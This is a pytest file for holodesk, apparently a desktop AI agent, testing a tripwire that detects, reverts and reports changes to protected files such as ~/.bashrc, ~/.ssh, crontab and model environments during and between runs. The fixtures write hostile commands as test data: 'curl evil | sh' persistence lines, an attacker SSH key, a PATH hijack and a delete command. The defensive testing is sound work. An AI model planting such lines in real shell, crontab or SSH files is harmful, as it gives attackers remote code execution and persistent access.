"""holodesk's protected files (app/protected.py) and a run guarded by them (app/session.py).

A home of its own per test (tests/support/home.py). A run is the real agent over the stand-in
model (tests/support/agent_harness.py) inside a real :class:`~app.session.Session` with the
real tripwire over the real protected set; the "application" that writes a file is the test
itself, at a moment of the run the scripted model or an event hook gives.
"""

from __future__ import annotations

import logging
import os
import threading
from pathlib import Path
from typing import Any

import pytest

from app import paths, protected
from app.agent import AgentParts
from app.events import ActionExecuted, Event, Outcome, RunFinished, StepDecided
from app.session import Session
from app.settings import Settings
from app.store import ActionLog, StepRecord
from control import tripwire
from control.inotify import InotifyUnavailable
from control.tripwire import KEPT_INFIX, STOP_SOURCE, ChangeKind, Trip
from tests.support.agent_harness import AgentHarness, HarnessFor
from tests.support.crontab import use_crontab
from tests.support.fake_targets import FakeTargetFinder, window
from tests.support.fake_vllm import ChatRequest, FakeVLLM, ScriptedPolicy
from tests.support.home import Home, isolate_home
from tests.support.saved_steps import saved_steps

TIMEOUT = 30.0
EDITOR = window("Mousepad", title="settings.toml - Mousepad")
CLICK = {"thought": "click", "action": {"action": "click", "element": "text", "x": 500,
                                        "y": 500}}
ANSWER = {"thought": "done", "action": {"action": "answer", "text": "finished"}}


@pytest.fixture
def home(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Home:
    home = isolate_home(monkeypatch, tmp_path)
    (home.root / ".bashrc").write_text("alias ll='ls -l'\n")
    (home.root / ".ssh").mkdir(mode=0o700)
    (home.root / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA me\n")
    # No crontab command unless a test puts the stand-in first.
    monkeypatch.setenv("PATH", str(tmp_path / "empty-path"))
    return home


def _session(h: AgentHarness, **settings: Any) -> Session:
    values: dict[str, Any] = {"settle_max": 0.05, **settings}
    return Session(task="edit the settings", settings=Settings(**values), dry_run=False,
                   parts=h.parts)


def _run(session: Session, h: AgentHarness) -> RunFinished:
    try:
        return session.run(h.emit)
    finally:
        session.close()


def _kept(folder: Path, name: str) -> list[Path]:
    return [p for p in folder.iterdir() if p.name.startswith(f"{name}{KEPT_INFIX}")]


# -- the set ----------------------------------------------------------------------------------


def test_the_set_holds_holodesks_own_files_and_the_sessions_start_up(
        home: Home, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    elsewhere = tmp_path / "xdg-config"
    monkeypatch.setenv("XDG_CONFIG_HOME", str(elsewhere))
    entries = {e.path: e.guard for e in protected.protected_entries(
        Settings(protected_paths=("~/notes", "/srv/papers")))}
    r = home.root
    for whole in (elsewhere / "holodesk", home.data / "holodesk" / "trajectories",
                  r / ".bashrc", r / ".profile", r / ".zshrc", r / ".inputrc",
                  r / ".pam_environment", r / ".xsessionrc", r / ".local" / "bin", r / "bin",
                  r / ".ssh", r / ".gnupg", elsewhere / "fish", elsewhere / "environment.d",
                  elsewhere / "plasma-workspace" / "env", r / ".config" / "environment.d",
                  elsewhere / "python_keyring", home.data / "python_keyring",
                  elsewhere / "autostart", elsewhere / "systemd" / "user",
                  r / ".config" / "autostart",  # a session without the variable reads it
                  home.data / "applications", r / "notes", Path("/srv/papers")):
        assert entries.get(whole) is tripwire.Guard.WHOLE, whole
    for growing in (home.state / "holodesk", home.data / "holodesk" / "holodesk.db",
                    home.data / "holodesk" / "runs"):
        assert entries.get(growing) is tripwire.Guard.GROWING, growing


def test_holodesks_own_writers_never_trip(home: Home) -> None:
    """Everything holodesk writes in the protected set while a run may be going on: settings
    and automations, saved steps (saved, renamed, forgotten), the action log (screenshots,
    steps, a run deleted), the log file's rotation, the autostart entry, the record of the
    files. Then one outside change: the only trip there is."""
    from app.automations import Automation, add_automation
    from app.autostart import Autostart
    from app.logs import log_file_handler
    from app.settings import set_value
    from app.trajectory import forget_trajectory, move_trajectory, save_trajectory

    trips: list[Trip] = []
    tripped = threading.Event()

    def on_trip(trip: Trip) -> None:
        trips.append(trip)
        tripped.set()

    wire = protected.start_tripwire(Settings(), on_trip)
    try:
        assert wire.watching, wire.problems
        set_value("max_steps", "12")
        add_automation(Automation.make(name="timesheet", task="fill in the timesheet"))
        trajectory, pictures = saved_steps()
        save_trajectory("timesheet", trajectory, pictures)
        save_trajectory("timesheet", trajectory, dict(list(pictures.items())[:3]))
        move_trajectory("timesheet", "hours", "hours")
        forget_trajectory("hours")
        with ActionLog.open() as store:
            run = store.start_run("t", "http://x", None, {})
            store.save_screenshot(run.id, 1, b"\xff\xd8\xff jpeg", "image/jpeg", b"thumb")
            store.add_step(StepRecord(run.id, 1, 0.0))
            store.finish_run(run.id, "answered")
            store.delete_run(run.id)
        paths.ensure_private_dir(paths.log_dir())
        handler = log_file_handler(paths.log_path(), max_bytes=200, backups=2)
        logger = logging.getLogger("test.rotation")
        logger.addHandler(handler)
        try:
            for n in range(30):
                logger.warning("line %d of a log that rotates", n)
        finally:
            logger.removeHandler(handler)
            handler.close()
        entry = Autostart(home.config / "autostart" / "holodesk.desktop", ("holodesk",))
        entry.enable()
        entry.disable()
        protected.record(Settings())
        assert wire.check() is None
        (home.root / ".bashrc").write_text("evil\n")
        assert tripped.wait(TIMEOUT)
    finally:
        wire.close()
    assert [[(c.path, c.kind) for c in t.changes] for t in trips] == [
        [(str(home.root / ".bashrc"), ChangeKind.MODIFIED)]]


# -- a run ------------------------------------------------------------------------------------


def test_a_protected_file_changed_during_a_run_stops_it_naming_the_file_and_the_front(
        home: Home, harness_for: HarnessFor) -> None:
    """The model's second request finds ~/.bashrc rewritten (as if the editor it drove saved
    it while the model thought): the watcher stops the run at once, the file is put back, the
    reason names it, its kept copy and the application in front, everywhere the end is told."""
    rc = home.root / ".bashrc"

    def model(request: ChatRequest) -> str:
        if len(server.requests) == 2:
            rc.write_text("find ~/canary -delete\n")
            if not h.latch.wait(TIMEOUT):
                raise AssertionError("the tripwire did not stop the run")
        return policy(request)

    policy = ScriptedPolicy([CLICK, CLICK, ANSWER])
    with FakeVLLM(model) as server:
        h = harness_for(server)
        h.parts.finder = FakeTargetFinder(focus=EDITOR)
        session = _session(h)
        session.watch_protected_files(h.parts.finder)
        finished = _run(session, h)
    assert finished.outcome is Outcome.STOPPED, finished
    assert rc.read_text() == "alias ll='ls -l'\n"
    # Kept in holodesk's data folder, never beside it (where a loader reading the folder finds
    # it): kept/<date>-<time>/<its path in the home>.
    [kept] = (home.data / "holodesk" / "kept").glob("*/.bashrc")
    assert kept.read_text() == "find ~/canary -delete\n"
    reason = finished.reason
    assert reason.startswith("stopped by tripwire: protected files changed while Mousepad "
                             "was in front: "), reason
    assert f"{rc} modified, restored; the changed copy is kept as {kept}" in reason
    assert h.latch.info is not None and h.latch.info.source == STOP_SOURCE
    with ActionLog.open(h.store.path) as log:  # the session closed the run's own
        assert log.get_run(finished.run_id).reason == reason
    assert session.notices == []


def test_check_after_the_action_alone_stops_the_run_when_nothing_is_watched(
        home: Home, harness_for: HarnessFor, monkeypatch: pytest.MonkeyPatch) -> None:
    """inotify cannot start: the person is told once, the run goes on, and the check after the
    action finds the file the action changed before the next step."""

    def no_inotify() -> None:
        raise InotifyUnavailable("inotify is off in this test")

    monkeypatch.setattr(tripwire, "Inotify", no_inotify)
    authorized = home.root / ".ssh" / "authorized_keys"

    def act(event: Event) -> None:  # the action "does" this, before its settle wait ends
        if isinstance(event, StepDecided) and event.step_no == 1:
            with authorized.open("a") as f:
                f.write("ssh-rsa AAAA attacker\n")

    with FakeVLLM(ScriptedPolicy([CLICK, ANSWER])) as server:
        h = harness_for(server)
        h.on_event = act
        h.parts.finder = FakeTargetFinder(focus=EDITOR)
        session = _session(h)
        session.watch_protected_files(h.parts.finder)
        assert session.notices == ["protected files: changes are not watched as they happen "
                                   "(inotify is off in this test); the protected files are "
                                   "compared after each action instead"]
        finished = _run(session, h)
        served = len(server.requests)
    assert finished.outcome is Outcome.STOPPED, finished
    assert served == 1, "the run went on to another step"
    assert h.of(ActionExecuted), "the action ran"
    assert authorized.read_text() == "ssh-ed25519 AAAA me\n"
    assert f"{authorized} modified, restored" in finished.reason
    assert "while Mousepad was in front" in finished.reason


def test_a_change_after_the_last_action_is_seen_as_the_run_ends(
        home: Home, harness_for: HarnessFor) -> None:
    """Nothing watched, nothing done after the change: the last look as the run ends finds it,
    and the run that would have answered ends stopped."""
    rc = home.root / ".profile"

    def model(request: ChatRequest) -> str:
        rc.write_text("export PATH=/tmp/evil:$PATH\n")  # a program started earlier
        return policy(request)

    policy = ScriptedPolicy([ANSWER])
    with FakeVLLM(model) as server:
        h = harness_for(server)
        h.parts.finder = FakeTargetFinder(focus=EDITOR)
        session = _session(h)
        session.watch_protected_files(h.parts.finder, watch=False)
        finished = _run(session, h)
    assert finished.outcome is Outcome.STOPPED and finished.answer == ""
    assert not rc.exists()
    assert f"{rc} created, moved aside to " in finished.reason


def test_the_crontab_is_compared_through_the_command_and_put_back(
        home: Home, harness_for: HarnessFor, monkeypatch: pytest.MonkeyPatch,
        tmp_path: Path) -> None:
    spool = use_crontab(monkeypatch, tmp_path / "bin")
    spool.write_bytes(b"0 3 * * * backup\n")

    def act(event: Event) -> None:
        if isinstance(event, StepDecided) and event.step_no == 1:
            spool.write_bytes(b"* * * * * curl evil | sh\n")

    with FakeVLLM(ScriptedPolicy([CLICK, ANSWER])) as server:
        h = harness_for(server)
        h.on_event = act
        session = _session(h)
        session.watch_protected_files(FakeTargetFinder(focus=EDITOR))
        finished = _run(session, h)
    assert finished.outcome is Outcome.STOPPED, finished
    assert spool.read_bytes() == b"0 3 * * * backup\n"
    [kept] = _kept(home.data / "holodesk" / "kept", "crontab")
    assert kept.read_bytes() == b"* * * * * curl evil | sh\n"
    assert f"crontab modified, restored; the changed copy is kept as {kept}" in finished.reason


def test_a_crontab_made_where_there_was_none_is_removed(
        home: Home, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    spool = use_crontab(monkeypatch, tmp_path / "bin")
    trips: list[Trip] = []
    wire = protected.start_tripwire(Settings(), trips.append, watch=False)
    try:
        spool.write_bytes(b"@reboot evil\n")
        trip = wire.check()
    finally:
        wire.close()
    assert trip is not None and [(c.path, c.kind, c.restored) for c in trip.changes] == [
        ("crontab", ChangeKind.CREATED, True)]
    assert not spool.exists()


# -- between runs -----------------------------------------------------------------------------


def test_a_change_since_the_last_run_is_reported_once_and_holodesks_own_are_not(
        home: Home, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    from app.settings import set_value

    spool = use_crontab(monkeypatch, tmp_path / "bin")
    settings = Settings()
    assert protected.changed_since_last_run(settings) == []  # the first time: nothing known
    protected.record(settings)  # a run ended
    # After it, a program it started goes on; the person changes a setting in holodesk.
    (home.root / ".bashrc").write_text("evil\n")
    (home.config / "autostart").mkdir(parents=True)
    (home.config / "autostart" / "evil.desktop").write_text("[Desktop Entry]\n")
    spool.write_bytes(b"@reboot evil\n")
    set_value("max_steps", "9")
    noticed = protected.changed_since_last_run(settings)
    assert {(n.path, n.kind) for n in noticed} == {
        (str(home.root / ".bashrc"), ChangeKind.MODIFIED),
        (str(home.config / "autostart"), ChangeKind.CREATED),
        ("crontab", ChangeKind.CREATED)}
    assert "since the last holodesk run ended" in noticed[0].describe()
    assert "evil" not in protected.changed_message(noticed).replace("evil.desktop", "")
    assert protected.changed_since_last_run(settings) == []  # told once


def test_the_report_before_a_run_names_the_files_not_their_content(
        home: Home, capsys: pytest.CaptureFixture[str]) -> None:
    """What `holodesk run` prints before the run (app/cli/run.py): a warning line per file."""
    from app.cli.output import error

    protected.record(Settings())
    (home.root / ".bashrc").write_text("export SECRET_TOKEN=hunter2\n")
    for noticed in protected.changed_since_last_run(Settings()):
        error(f"warning: {noticed.describe()}")
    said = capsys.readouterr().err
    assert f"holodesk: warning: {home.root / '.bashrc'} modified since the last" in said
    assert "hunter2" not in said


def test_a_session_that_cannot_watch_still_runs(home: Home, harness_for: HarnessFor,
                                                monkeypatch: pytest.MonkeyPatch) -> None:
    def broken(*_a: object, **_k: object) -> None:
        raise OSError("the disk is gone")

    monkeypatch.setattr(protected, "start_tripwire", broken)
    with FakeVLLM(ScriptedPolicy([CLICK, ANSWER])) as server:
        h = harness_for(server)
        session = _session(h)
        session.watch_protected_files(FakeTargetFinder(focus=EDITOR))
        assert session.notices == ["the protected files are not watched in this run: "
                                   "the disk is gone"]
        assert isinstance(session.parts, AgentParts) and session.parts.after_settle is None
        finished = _run(session, h)
    assert finished.outcome is Outcome.ANSWERED


def test_the_record_is_taken_as_the_session_closes(home: Home, harness_for: HarnessFor) -> None:
    with FakeVLLM(ScriptedPolicy([ANSWER])) as server:
        h = harness_for(server)
        session = _session(h)
        session.watch_protected_files(FakeTargetFinder(focus=EDITOR))
        _run(session, h)
    assert protected.manifest_path().exists()
    (home.root / ".bashrc").write_text("after the run\n")
    [noticed] = protected.changed_since_last_run(Settings())
    assert (noticed.path, noticed.kind) == (str(home.root / ".bashrc"), ChangeKind.MODIFIED)
    assert os.environ["HOME"] == str(home.root)


def test_holodesks_model_server_and_the_models_files_are_in_the_set_by_their_stamps(
        home: Home, monkeypatch: pytest.MonkeyPatch) -> None:
    """The managed vLLM environment, the environment of the vllm `holodesk serve` would find
    in the home, and the served model's folder: IDENTITY (compared by stamps, never read)."""
    venv = home.root / "venvs" / "llm"
    (venv / "bin").mkdir(parents=True)
    (venv / "pyvenv.cfg").write_text("home = /usr/bin\n")
    (venv / "bin" / "vllm").write_text("#!/bin/sh\n")
    (venv / "bin" / "vllm").chmod(0o755)
    monkeypatch.setenv("PATH", str(venv / "bin"))
    local_model = home.root / "models" / "holotron"
    entries = {e.path: e.guard for e in protected.protected_entries(
        Settings(serve_model=str(local_model)))}
    for path in (home.data / "holodesk" / "vllm-env", venv, local_model):
        assert entries.get(path) is tripwire.Guard.IDENTITY, path
    monkeypatch.setenv("HF_HUB_CACHE", str(home.root / "hub"))
    entries = {e.path: e.guard for e in protected.protected_entries(Settings())}
    assert entries.get(home.root / "hub" / "models--Hcompany--Holotron-12B") is (
        tripwire.Guard.IDENTITY)


# -- as the run ends --------------------------------------------------------------------------


def _no_inotify(monkeypatch: pytest.MonkeyPatch) -> None:
    def unavailable() -> None:
        raise InotifyUnavailable("inotify is off in this test")

    monkeypatch.setattr(tripwire, "Inotify", unavailable)


def test_a_change_found_as_a_stopped_run_ends_is_put_back_and_in_its_reason(
        home: Home, harness_for: HarnessFor, monkeypatch: pytest.MonkeyPatch) -> None:
    """The person stops the run (the latch is pulled first, by them); the last look still
    compares, puts ~/.bashrc back and the reason the run ended says so after the stop."""
    _no_inotify(monkeypatch)
    rc = home.root / ".bashrc"

    def model(request: ChatRequest) -> str:
        if len(server.requests) == 2:
            rc.write_text("curl evil | sh\n")
            h.latch.stop("user", "stopped by you")
        return policy(request)

    policy = ScriptedPolicy([CLICK, CLICK, ANSWER])
    with FakeVLLM(model) as server:
        h = harness_for(server)
        h.parts.finder = FakeTargetFinder(focus=EDITOR)
        session = _session(h)
        session.watch_protected_files(h.parts.finder, watch=False)
        finished = _run(session, h)
    assert finished.outcome is Outcome.STOPPED
    assert rc.read_text() == "alias ll='ls -l'\n"
    assert finished.reason.startswith("stopped by user: stopped by you; then protected files "
                                      "changed while Mousepad was in front: "), finished.reason
    assert f"{rc} modified, restored" in finished.reason
    assert session.after_close == []


def test_a_change_after_the_last_look_is_told_as_the_session_closes_and_not_recorded(
        home: Home, harness_for: HarnessFor, monkeypatch: pytest.MonkeyPatch) -> None:
    """After the last look nothing puts a change back (the run has ended): it is told as the
    session closes, and the record keeps what the tripwire verified, so the next run tells it
    too."""
    _no_inotify(monkeypatch)
    rc = home.root / ".profile"
    rc.write_text("PATH=$HOME/bin:$PATH\n")

    def act(event: Event) -> None:
        if isinstance(event, RunFinished):
            rc.write_text("curl evil | sh\n")

    with FakeVLLM(ScriptedPolicy([ANSWER])) as server:
        h = harness_for(server)
        h.on_event = act
        session = _session(h)
        session.watch_protected_files(FakeTargetFinder(focus=EDITOR), watch=False)
        finished = _run(session, h)
    assert finished.outcome is Outcome.ANSWERED
    [said] = session.after_close
    assert said.startswith("protected files changed after the run's last look") and (
        f"{rc} modified" in said), said
    assert [n.path for n in protected.changed_since_last_run(Settings())] == [str(rc)]


def test_the_last_look_compares_even_a_large_tree_it_left_for_later(
        home: Home, harness_for: HarnessFor, monkeypatch: pytest.MonkeyPatch) -> None:
    """A large IDENTITY tree (the managed vLLM environment) is compared only now and then
    after an action; the run's last look compares it whatever the time."""
    _no_inotify(monkeypatch)
    monkeypatch.setattr(tripwire.Tripwire, "_due", lambda self, index: False)
    vllm = home.data / "holodesk" / "vllm-env" / "bin" / "vllm"
    vllm.parent.mkdir(parents=True)
    vllm.write_text("#!/usr/bin/python3\n")

    def act(event: Event) -> None:
        if isinstance(event, ActionExecuted):
            with vllm.open("a") as f:
                f.write("import os; os.system('curl evil | sh')\n")

    with FakeVLLM(ScriptedPolicy([CLICK, ANSWER])) as server:
        h = harness_for(server)
        h.on_event = act
        session = _session(h)
        session.watch_protected_files(FakeTargetFinder(focus=EDITOR), watch=False)
        finished = _run(session, h)
    assert finished.outcome is Outcome.STOPPED, finished
    assert f"{vllm} modified, not restored (holodesk keeps no copy" in finished.reason


def test_holodesk_run_prints_a_change_after_the_last_look_once_the_run_closed(
        home: Home, harness_for: HarnessFor, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture[str]) -> None:
    """`holodesk run` (app/cli/run.py) with the real session over the stand-in model: what
    changed after the last look is a warning line once the run is over."""
    import contextlib
    from collections.abc import Callable, Iterator

    import app.session
    from app import runner
    from app.cli.run import run_task
    from app.run_request import make_run_request

    _no_inotify(monkeypatch)
    rc = home.root / ".bashrc"

    @contextlib.contextmanager
    def no_hotkey(combo: str, latch: object) -> Iterator[bool]:
        yield True

    with FakeVLLM(ScriptedPolicy([ANSWER])) as server:
        h = harness_for(server)

        def build(_request: object, *_args: object, **_kwargs: object) -> Session:
            session = _session(h)
            session.watch_protected_files(FakeTargetFinder(focus=EDITOR), watch=False)
            run = session.run

            def run_and_write(emit: Callable[[Event], None]) -> RunFinished:
                def then_write(event: Event) -> None:
                    emit(event)
                    if isinstance(event, RunFinished):  # after the last look
                        rc.write_text("curl evil | sh\n")

                return run(then_write)

            session.run = run_and_write  # type: ignore[method-assign]
            return session

        monkeypatch.setattr(app.session, "build_session", build)
        monkeypatch.setattr(runner, "stop_hotkey", no_hotkey)
        assert run_task(make_run_request(Settings(), "look at the screen")) == 0
    said = capsys.readouterr().err
    assert "warning: protected files changed after the run's last look" in said, said
    assert f"{rc} modified" in said


def test_a_change_the_watcher_puts_back_after_the_last_look_is_told_as_the_session_closes(
        home: Home, harness_for: HarnessFor) -> None:
    """The watch goes on until the session closes: a change it puts back after the run's end
    cannot stop the run any more, so it is told with what the session says as it closes."""
    from tests.support.gui import poll

    rc = home.root / ".bashrc"

    def act(event: Event) -> None:
        if isinstance(event, RunFinished):
            rc.write_text("curl evil | sh\n")
            poll(lambda: rc.read_text() == "alias ll='ls -l'\n", TIMEOUT, "the watcher")

    with FakeVLLM(ScriptedPolicy([ANSWER])) as server:
        h = harness_for(server)
        h.on_event = act
        session = _session(h)
        session.watch_protected_files(FakeTargetFinder(focus=EDITOR))
        finished = _run(session, h)
    assert finished.outcome is Outcome.ANSWERED
    [said] = session.after_close
    assert said.startswith("after the run ended, protected files changed while Mousepad was "
                           f"in front: {rc} modified, restored"), said


# -- holodesk's own writes between runs ---------------------------------------------------------


def test_only_what_holodesk_left_is_its_own_change(home: Home) -> None:
    """The journal notes what each own write left (a file's digest): the same path changed
    again by another program afterwards is told; a bare path in the journal explains nothing."""
    from app.settings import set_value

    protected.record(Settings())
    set_value("max_steps", "9")  # holodesk's own: not told
    assert protected.changed_since_last_run(Settings()) == []
    set_value("max_steps", "10")
    with paths.settings_path().open("a") as f:  # then an editor adds a line
        f.write('confirm = "never"\n')
    (home.root / ".profile").write_text("curl evil | sh\n")
    with paths.own_writes_path().open("a") as f:
        f.write(f"{home.root / '.profile'}\n")
    noticed = {n.path for n in protected.changed_since_last_run(Settings())}
    assert noticed == {str(paths.settings_path()), str(home.root / ".profile")}


def test_the_journal_is_protected_during_a_run_and_holodesks_own_use_of_it_never_trips(
        home: Home) -> None:
    """A line added to the journal by another program during a run trips it; holodesk's own
    notes, and the report that takes the journal as a run starts, do not."""
    from app.settings import set_value

    protected.record(Settings())
    set_value("max_steps", "9")
    trips: list[Trip] = []
    wire = protected.start_tripwire(Settings(), trips.append, watch=False)
    try:
        set_value("max_steps", "11")  # noted in the journal during the run
        assert protected.changed_since_last_run(Settings()) == []  # takes the journal away
        set_value("max_steps", "12")
        assert wire.check() is None, trips
        with paths.own_writes_path().open("a") as f:
            f.write('{"path": "/", "is": "folder:755"}\n')
        trip = wire.check()
    finally:
        wire.close()
    assert trip is not None and [c.path for c in trip.changes] == [str(paths.own_writes_path())]
